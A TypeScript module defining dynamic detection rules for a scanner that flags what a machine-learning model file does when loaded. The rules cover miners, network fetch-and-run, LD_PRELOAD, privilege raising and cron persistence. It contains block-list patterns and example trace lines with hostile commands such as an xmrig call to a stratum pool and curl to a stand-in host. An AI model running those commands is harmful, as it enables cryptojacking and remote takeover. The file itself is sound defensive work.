import type { Act, AuditAct, StartAct } from '../acts.js';
import { FETCHERS, INTERPRETERS, SHELLS } from '../../core/programs.js';
import { commandLine } from '../args.js';
import { nameOf } from '../path-zones.js';
import type { Rule } from './rule.js';

const RAISERS = /^(?:sudo|su|doas|pkexec|runuser|newgrp|sg|setpriv|capsh)$/;
const INSTALLERS =
  /^(?:pip[\d.]*|pipx|uv|conda|mamba|apt|apt-get|dpkg|npm|npx|yum|dnf|apk|gem|cargo|snap|flatpak|brew)$/;
const BROWSERS =
  /^(?:xdg-open|www-browser|sensible-browser|x-www-browser|gnome-open|gio|firefox|chromium|google-chrome|open|start)$/;
const SCHEDULERS = /^(?:crontab|at|batch|systemctl|systemd-run|launchctl|schtasks)$/;
const LIBRARY = /\.so(?:\.[\d.]+)?$/;
/** Programs, and kinds of programs, that only Windows or macOS has. */
const OTHER_SYSTEM =
  /^(?:powershell|pwsh|cmd|calc|mshta|rundll32|regsvr32|wscript|cscript|certutil|bitsadmin|osascript|launchctl)$|\.(?:exe|bat|cmd|ps1|scr|msi|dll|vbs|app)$/i;
const MINING = /xmrig|stratum\+(?:tcp|ssl)|\bminerd?\b|cpuminer|nicehash|minexmr|ethminer|--donate-level|randomx/i;

const command = (start: StartAct): string => commandLine(start.argv.length > 0 ? start.argv : [start.path]);

/** The command, if `act` starts a program that `applies` accepts. */
const started =
  (applies: (start: StartAct, name: string) => boolean) =>
  (act: Act): string | undefined =>
    act.act === 'start' && applies(act, nameOf(act.path)) ? command(act) : undefined;

/** Any word of the command line: `sh -c "curl … | sh"` counts for curl. */
const anyWord = (start: StartAct, pattern: RegExp): boolean =>
  start.argv
    .join(' ')
    .split(/[\s;|&()`$"']+/)
    .some((word) => pattern.test(nameOf(word)));

const ADVICE =
  'Do not load this model. Loading data never needs another program; ask who made it for a copy in a format without code, such as SafeTensors.';

export const EXECUTION: readonly Rule[] = [
  {
    id: 'DYN-EXEC-HELPER',
    severity: 'info',
    category: 'execution',
    attack: 'T1082',
    title: 'Python or a library starts a helper of its own',
    meaning:
      'File, command line and environment are those that Python and its libraries use, so the model gains nothing by it; what the helper does is watched like the rest.',
    harmless: 'Always, as long as it stays what it is: the finding is there for completeness.',
    advice: 'Nothing needs to be done.',
    example: [
      '100 vfork() = 101',
      '101 execve("/usr/bin/uname", ["uname", "-p"], ["PATH=/usr/local/bin:/usr/bin:/bin", "HOME=/home/model"]) = 0',
    ],
    subject: started((start) => start.helper !== undefined),
  },
  {
    id: 'DYN-EXEC-PRELOAD',
    severity: 'critical',
    category: 'execution',
    attack: 'T1574.006',
    title: 'Slips code into a program that it starts',
    meaning: 'The library named in the environment runs inside the program, under its name.',
    harmless: 'Where you load the model with another allocator of memory, and have set that yourself.',
    advice: ADVICE,
    example: ['100 execve("/usr/bin/id", ["id"], ["LD_PRELOAD=/tmp/x.so"]) = 0'],
    subject: (act) => (act.act === 'start' ? act.preload : undefined),
  },
  {
    id: 'DYN-EXEC-FILELESS',
    severity: 'critical',
    category: 'execution',
    attack: 'T1620',
    title: 'Runs a program that is on no disk',
    meaning: 'A program that lives only in memory leaves nothing for a virus scanner to find.',
    harmless: 'Never: loading a model needs nothing of the kind.',
    advice: ADVICE,
    example: ['100 execve("/proc/self/fd/5", ["x"], 0x7ffc0000 /* 9 vars */) = 0'],
    subject: started((start) => start.fileless),
  },
  {
    id: 'DYN-EXEC-MINER',
    severity: 'critical',
    category: 'resource-abuse',
    attack: 'T1496.001',
    title: 'Starts a crypto-currency miner',
    meaning: 'It would use this computer to earn money for another person.',
    harmless: 'Never: loading a model needs nothing of the kind.',
    advice: ADVICE,
    example: [
      '100 execve("/bin/sh", ["sh", "-c", "xmrig -o stratum+tcp://192.0.2.9:3333"], 0x7ffc0000 /* 9 vars */) = 0',
    ],
    subject: started((start) => MINING.test(start.argv.join(' ')) || MINING.test(start.path)),
  },
  {
    id: 'DYN-EXEC-DOWNLOADED',
    severity: 'critical',
    category: 'execution',
    attack: 'T1105',
    title: 'Fetches a program from the network and runs it',
    meaning: 'The owner of the other machine decides what runs here, and can change it every day.',
    harmless: 'Never: loading a model needs nothing of the kind.',
    advice: 'Do not load this model. If you have, disconnect the machine and treat it as taken over.',
    example: [
      '100 connect(3<TCP:[1]>, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("203.0.113.7")}, 16) = 0',
      '100 openat(AT_FDCWD, "/tmp/stage2", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0666) = 5</tmp/stage2>',
      '100 execve("/bin/sh", ["sh", "/tmp/stage2"], 0x7ffc0000 /* 9 vars */) = 0',
    ],
    subject: started((start, name) => isMadeHere(start, name) && start.contacted),
  },
  {
    id: 'DYN-EXEC-DROPPED',
    severity: 'critical',
    category: 'execution',
    attack: 'T1105',
    title: 'Runs a program that did not come with the system',
    meaning: 'The program was brought along or written just before: the author of the model decides what it does.',
    harmless:
      'Where a library unpacks a tool of its own before it starts it; the report says where the program came from.',
    advice: ADVICE,
    example: ['100 execve("/tmp/stage2", ["/tmp/stage2"], 0x7ffc0000 /* 9 vars */) = -1 EACCES (Permission denied)'],
    subject: started(
      (start, name) =>
        isMadeHere(start, name) || ['scratch', 'home', 'model', 'model-folder', 'kernel'].includes(start.zone),
    ),
  },
  {
    id: 'DYN-EXEC-SCHEDULE',
    severity: 'critical',
    category: 'persistence',
    attack: 'T1053.003',
    title: 'Schedules a program to run later',
    meaning: 'It would run again after the model is closed, and after the computer restarts.',
    harmless: 'Never: loading a model needs nothing of the kind.',
    advice: ADVICE,
    example: [
      '100 execve("/usr/bin/crontab", ["crontab", "/tmp/c"], 0x7ffc0000 /* 9 vars */) = -1 ENOENT (No such file or directory)',
    ],
    subject: started(
      (start, name) => SCHEDULERS.test(name) || (SHELLS.test(name) && anyWord(start, /^crontab$|^systemctl$/)),
    ),
  },
  {
    id: 'DYN-EXEC-PRIVILEGE',
    severity: 'high',
    category: 'escape',
    attack: 'T1548.003',
    title: 'Asks for administrator rights',
    meaning: 'With them it could change anything on the computer.',
    harmless: 'Never: loading a model needs nothing of the kind.',
    advice: ADVICE,
    example: [
      '100 execve("/usr/bin/sudo", ["sudo", "id"], 0x7ffc0000 /* 9 vars */) = -1 EPERM (Operation not permitted)',
    ],
    subject: started(
      (start, name) => RAISERS.test(name) || (SHELLS.test(name) && anyWord(start, /^(?:sudo|doas|pkexec)$/)),
    ),
  },
  {
    id: 'DYN-EXEC-INSTALL',
    severity: 'high',
    category: 'execution',
    attack: 'T1195.001',
    title: 'Installs software',
    meaning: 'Opening a model must not install anything: a package can run any code while it is installed.',
    harmless: 'In the set-up script of a project that you start yourself.',
    advice: ADVICE,
    example: [
      '100 execve("/usr/bin/pip", ["pip", "install", "example-package"], 0x7ffc0000 /* 9 vars */) = -1 ENOENT (No such file or directory)',
    ],
    subject: started(
      (start, name) =>
        INSTALLERS.test(name) ||
        (SHELLS.test(name) && anyWord(start, /^(?:pip[\d.]*|conda|apt-get|npm)$/)) ||
        (INTERPRETERS.test(name) && /^-m\0(?:pip|ensurepip)\0/.test(`${start.argv.slice(1).join('\0')}\0`)),
    ),
  },
  {
    id: 'DYN-EXEC-FETCH',
    severity: 'critical',
    category: 'execution',
    attack: 'T1105',
    title: 'Starts a program that transfers files',
    meaning: 'Such a program brings in more code, or carries data out.',
    harmless: 'In a script that fetches weights and that you start yourself; never while a file is loaded.',
    advice: ADVICE,
    example: [
      '100 execve("/usr/bin/curl", ["curl", "-s", "http://192.0.2.9/x"], 0x7ffc0000 /* 9 vars */) = -1 ENOENT (No such file or directory)',
    ],
    subject: started((start, name) => FETCHERS.test(name) || (SHELLS.test(name) && anyWord(start, FETCHERS))),
  },
  {
    id: 'DYN-EXEC-BROWSER',
    severity: 'medium',
    category: 'execution',
    attack: 'T1204.001',
    title: 'Opens a web page or another document',
    meaning: 'The page is chosen by the model, and opens in the browser of the user who loads it.',
    harmless: 'In a tool that shows its results in a page and that you start yourself.',
    advice: 'Do not load this model unless you know why it opens a page.',
    example: [
      '100 execve("/usr/bin/xdg-open", ["xdg-open", "http://192.0.2.9/"], 0x7ffc0000 /* 9 vars */) = -1 ENOENT (No such file or directory)',
    ],
    subject: started((_, name) => BROWSERS.test(name)),
  },
  {
    id: 'DYN-EXEC-OTHER-SYSTEM',
    severity: 'high',
    category: 'execution',
    attack: 'T1480',
    title: 'Starts a program of another operating system',
    meaning: 'It did nothing here because this sandbox is Linux; on the system it is made for it would act.',
    harmless: 'Where a library tries a tool of another system to find out which system this is.',
    advice: ADVICE,
    example: [
      '100 execve("/usr/bin/powershell", ["powershell", "-c", "calc.exe"], 0x7ffc0000 /* 9 vars */) = -1 ENOENT (No such file or directory)',
    ],
    subject: started(
      (start, name) =>
        OTHER_SYSTEM.test(name) || (SHELLS.test(name) && !start.withinStart && anyWord(start, OTHER_SYSTEM)),
    ),
  },
  {
    id: 'DYN-EXEC-SHELL',
    severity: 'high',
    category: 'execution',
    attack: 'T1059.004',
    title: 'Runs a shell command',
    meaning: 'A model is data: opening one never needs a shell, and a shell can do anything its user can.',
    harmless:
      'Where a library asks the compiler or the linker what there is; those of Python’s own are taken off by exact command lines.',
    advice: ADVICE,
    example: ['100 execve("/bin/sh", ["sh", "-c", "id"], 0x7ffc0000 /* 9 vars */) = 0'],
    subject: started((start, name) => SHELLS.test(name) && !isRetold(start)),
  },
  {
    id: 'DYN-EXEC-INTERPRETER',
    severity: 'high',
    category: 'execution',
    attack: 'T1059.006',
    title: 'Starts another program interpreter',
    meaning: 'It runs code that is not part of the model, out of sight of tools that only read the model.',
    harmless: 'Where a library starts workers of its own; those of Python’s own are taken off.',
    advice: ADVICE,
    example: ['100 execve("/usr/bin/perl", ["perl", "-e", "print 1"], 0x7ffc0000 /* 9 vars */) = 0'],
    subject: started((_, name) => INTERPRETERS.test(name)),
  },
  {
    id: 'DYN-EXEC-PROGRAM',
    severity: 'high',
    category: 'execution',
    attack: 'T1204.002',
    title: 'Starts another program',
    meaning: 'Loading this kind of model starts no program.',
    harmless: 'Where a library asks a tool for its version, such as one for graphics cards.',
    advice: ADVICE,
    example: ['100 execve("/usr/bin/id", ["id"], 0x7ffc0000 /* 9 vars */) = 0'],
    subject: started((start) => !isRetold(start)),
  },
];

/** Before the rules on secrets and personal files: code that is loaded says more than where it lies. */
export const CODE: readonly Rule[] = [
  {
    id: 'DYN-EXEC-DROPPED-LIBRARY',
    severity: 'critical',
    category: 'execution',
    attack: 'T1129',
    title: 'Loads machine code that it has just written',
    meaning: 'The code was hidden in the model as data, where tools that look for programs do not find it.',
    harmless: 'Where a compiler of a library writes its code to a cache and loads it, as Triton and Theano do.',
    advice: ADVICE,
    example: [
      '100 openat(AT_FDCWD, "/tmp/x.so", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0666) = 5</tmp/x.so>',
      '100 openat(AT_FDCWD, "/tmp/x.so", O_RDONLY|O_CLOEXEC) = 5</tmp/x.so>',
      '100 unlink("/tmp/x.so") = 0',
    ],
    subject: (act) => {
      if (act.act === 'map') return act.madeHere ? act.path : undefined;
      if (act.act !== 'read' || act.probe) return undefined;
      const isMemory = act.ownProcess && /\/fd\/\d+$/.test(act.path);
      return isMemory || (act.madeHere && LIBRARY.test(act.path)) ? act.path : undefined;
    },
  },
  {
    id: 'DYN-EXEC-LIBRARY',
    severity: 'high',
    category: 'execution',
    attack: 'T1129',
    title: 'Loads machine code that did not come with the system',
    meaning: 'A native library runs its own code as soon as it is loaded.',
    harmless: 'Where you installed a package with native code beside the model yourself.',
    advice: ADVICE,
    example: [
      '100 mmap(0x7f00, 81920, PROT_READ|PROT_EXEC, MAP_PRIVATE|MAP_FIXED|MAP_DENYWRITE, 5</model/weights.bin>, 0x3000) = 0x7f00',
    ],
    subject: (act) => {
      if (act.act === 'map') return isForeignZone(act.zone) ? act.path : undefined;
      return act.act === 'read' && !act.probe && isForeignZone(act.zone) && LIBRARY.test(act.path)
        ? act.path
        : undefined;
    },
  },
  {
    id: 'DYN-EXEC-PLANTED',
    severity: 'high',
    category: 'execution',
    attack: 'T1574',
    title: 'Has a worker process run code that did not come with the system',
    meaning: 'Workers run in an interpreter of their own, in which no audit hook sees the code that they are given.',
    harmless: 'Where the workers load data by a class of your own project.',
    advice: ADVICE,
    example: [
      '100 vfork() = 101',
      '101 execve("/usr/bin/python3", ["/usr/bin/python3", "-m", "joblib.externals.loky.backend.popen_loky_posix", "--process-name", "LokyProcess-1", "--pipe", "9"], ["HOME=/home/model"]) = 0',
      '101 openat(AT_FDCWD</tmp>, "/tmp/joblib/__init__.py", O_RDONLY|O_CLOEXEC) = 5</tmp/joblib/__init__.py>',
    ],
    subject: (act) =>
      act.act === 'read' &&
      act.byWorker &&
      !act.probe &&
      isForeignZone(act.zone) &&
      /\.(?:py|pyc|pth|so)$/.test(act.path)
        ? act.path
        : undefined,
  },
  {
    id: 'DYN-EXEC-SIBLING',
    severity: 'high',
    category: 'execution',
    attack: 'T1574',
    title: 'Runs Python code that lies beside the model',
    meaning: 'The harmful part can hide in a file that does not look like a part of the model.',
    harmless: 'Where the code came with the model on purpose, you read it, and it only defines classes.',
    advice: 'Look at the Python files next to the model before loading it, or load it in a folder of its own.',
    example: ['100 openat(AT_FDCWD, "/model/helper.py", O_RDONLY|O_CLOEXEC) = 5</model/helper.py>'],
    subject: (act) => {
      // Python lists a folder before it takes a module from it.
      if (act.act === 'audit') return isModuleSearch(act) && act.zone === 'model-folder' ? act.args[0] : undefined;
      return act.act === 'read' && !act.probe && act.zone === 'model-folder' && /\.(?:py|pyc|pth)$/.test(act.path)
        ? act.path
        : undefined;
    },
  },
];

/** A program, or a script for one, that was written in this run. */
function isMadeHere(start: StartAct, name: string): boolean {
  return start.madeHere || (start.argumentMadeHere && (SHELLS.test(name) || INTERPRETERS.test(name)));
}

/** Part of a command that is reported already: `id` in `sh -c id`. */
function isRetold(start: StartAct): boolean {
  return start.withinStart;
}

function isModuleSearch({ name, frames }: AuditAct): boolean {
  return name === 'os.listdir' && frames[0]?.file === '<frozen importlib._bootstrap_external>';
}

function isForeignZone(zone: string): boolean {
  return ['scratch', 'home', 'model', 'model-folder'].includes(zone);
}
